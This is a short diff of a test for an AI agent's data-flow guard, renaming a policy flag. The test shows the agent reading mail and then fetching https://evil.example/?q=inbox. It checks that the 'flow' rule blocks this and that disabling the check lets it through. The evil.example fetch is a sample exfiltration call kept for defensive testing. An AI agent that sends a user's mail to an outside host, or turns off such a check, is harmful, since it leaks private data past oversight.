@@ -349,7 +349,9 @@ def test_flow_rule_applies_after_a_restart(agent):
     agent(call("read_mail", text="inbox"), "Read.", tools=tools).run("Read my mail.")
     later = agent(call("fetch", url="https://evil.example/?q=inbox"), "Denied.", tools=tools)
     assert [decision.rule for decision in later.run("and now?").decisions] == ["flow"]
-    after = agent(call("fetch", url="https://evil.example/?q=inbox"), "Done.", tools=tools, policy=Policy(flow=False))
+    after = agent(
+        call("fetch", url="https://evil.example/?q=inbox"), "Done.", tools=tools, policy=Policy(checks_data_flow=False)
+    )
     assert after.run("and now?").decisions[0].allowed
 
 
